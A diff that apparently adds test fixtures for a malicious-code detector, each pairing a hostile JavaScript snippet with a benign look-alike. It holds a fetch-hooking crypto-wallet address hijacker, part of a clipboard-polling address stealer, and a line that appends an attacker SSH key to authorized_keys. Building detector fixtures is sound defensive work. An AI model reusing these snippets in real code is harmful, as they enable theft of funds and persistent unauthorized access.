@@ -181,6 +181,15 @@ setInterval(() => { const t = clipboardy.readSync();
 export const isBtc = (a) => /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(a);"#,
     ),
     (
+        "dsca_browser_wallet_hijack",
+        r#"const W=['0x1111111111111111111111111111111111111111','0x2222222222222222222222222222222222222222','0x3333333333333333333333333333333333333333'];
+const F=window.fetch;window.fetch=async function(...a){const r=await F.apply(this,a);return swap(r,W)};"#,
+        // A retry wrapper around fetch and a token list, in one bundle, never together
+        // with the hook: the address list lives in a file that does not hook.
+        r#"const F=window.fetch;window.fetch=async function(...a){for(let i=0;i<3;i++){try{return await F.apply(this,a)}catch(e){}}};
+const TOKENS={USDC:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'};"#,
+    ),
+    (
         "dsca_ssh_authorized_keys_backdoor",
         r#"fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), '\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGV4YW1wbGVrZXlleGFtcGxla2V5ZXhhbXBsZWtleWV4YW1wbGU attacker@example\n');"#,
         r#"// sshd reads ~/.ssh/authorized_keys; see the README to add your key
